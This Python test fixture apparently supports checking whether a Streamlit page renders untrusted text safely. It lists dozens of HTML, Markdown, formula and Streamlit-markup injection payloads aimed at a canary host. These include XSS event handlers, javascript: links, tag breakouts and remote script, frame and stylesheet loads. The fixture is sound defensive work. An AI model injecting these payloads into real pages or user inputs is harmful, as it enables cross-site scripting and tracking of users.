"""Texts that ask a page to load, follow or run something: Markdown, HTML, formulas, Streamlit's own signs."""

from __future__ import annotations

CANARY = "http://canary.invalid"

# {n} is the payload's number, so that a request names the text that caused it.
PAYLOADS = [
    text.replace("HOST", CANARY)
    for text in (
        # Pictures
        "![a](HOST/{n}.png)",
        "![a][r]\n\n[r]: HOST/{n}.png",
        "[![a](HOST/{n}.png)](HOST/{n})",
        "![a](<HOST/{n}.png> 'title')",
        "![](HOST/{n}.png)![](HOST/{n}b.png)",
        "<img src=HOST/{n}.png>",
        "<img src=x onerror=\"alert('{n}')\">",
        "<img srcset='HOST/{n}.png 2x'>",
        "<picture><source srcset=HOST/{n}.png><img></picture>",
        "<input type=image src=HOST/{n}.png>",
        "<svg><image href=HOST/{n}.png /></svg>",
        "<svg onload=alert({n})>",
        "<body background=HOST/{n}.png>",
        "<table background=HOST/{n}.png><tr><td>a</table>",
        "<video poster=HOST/{n}.png src=HOST/{n}.mp4 autoplay></video>",
        "<audio src=HOST/{n}.mp3 autoplay></audio>",
        # Styles
        "<style>body{background:url(HOST/{n}.png)}</style>",
        "<style>@import 'HOST/{n}.css';</style>",
        "<div style='background-image:url(HOST/{n}.png)'>a</div>",
        "<link rel=stylesheet href=HOST/{n}.css>",
        "<link rel=preload as=image href=HOST/{n}.png>",
        "<link rel=dns-prefetch href=HOST/{n}>",
        # Scripts and frames
        "<script>alert({n})</script>",
        "<script src=HOST/{n}.js></script>",
        "<iframe src=HOST/{n}></iframe>",
        '<iframe srcdoc="<script>parent.alert({n})</script>"></iframe>',
        "<object data=HOST/{n}></object>",
        "<embed src=HOST/{n}>",
        "<base href=HOST/{n}/>",
        "<meta http-equiv=refresh content='0;url=HOST/{n}'>",
        "<form action=HOST/{n}><button autofocus onfocus=this.form.submit()>a</button></form>",
        "<details open ontoggle=alert({n})>a</details>",
        '<a href="javascript:alert({n})">a</a>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})></style></mglyph></table></mtext></math>",
        '<noscript><p title="</noscript><img src=x onerror=alert({n})>">',
        "</div></p></span><img src=HOST/{n}.png>",
        '"><img src=HOST/{n}.png>',
        "'-alert({n})-'",
        "</script><script>alert({n})</script>",
        "</textarea><img src=HOST/{n}.png>",
        "</style><img src=HOST/{n}.png>",
        "&lt;img src=HOST/{n}.png&gt;",
        "\\<img src=HOST/{n}.png\\>",
        "\u003cimg src=HOST/{n}.png\u003e",
        "＜img src=HOST/{n}.png＞ <img/src=HOST/{n}b.png>",
        # Links
        "[a](HOST/{n})",
        "[a](javascript:alert({n}))",
        "[a](data:text/html,<script>alert({n})</script>)",
        "[a][r]\n\n[r]: javascript:alert({n})",
        "<HOST/{n}>",
        "HOST/{n}",
        "www.canary.invalid/{n} me{n}@canary.invalid",
        # Formulas and Streamlit's own signs
        "$\\href{HOST/{n}}{a}$",
        "$$\\includegraphics{HOST/{n}.png}$$",
        "$\\url{HOST/{n}} \\htmlData{x={n}}{a}$",
        ":red[![a](HOST/{n}.png)] :material/home: :streamlit: :smile:",
        ":red-background[[a](HOST/{n})] :small[a] :rainbow[a]",
        # Blocks
        "# a\n\n| a |\n| - |\n| ![a](HOST/{n}.png) |",
        "> - [ ] ![a](HOST/{n}.png)\n\n```html\n<img src=HOST/{n}.png>\n```",
        "a[^1]\n\n[^1]: ![a](HOST/{n}.png)\n\n<!-- -->\n<img src=HOST/{n}.png>",
    )
]


def payload(number: int) -> str:
    """The text of that number, with the number in it."""
    return PAYLOADS[number].replace("{n}", str(number))
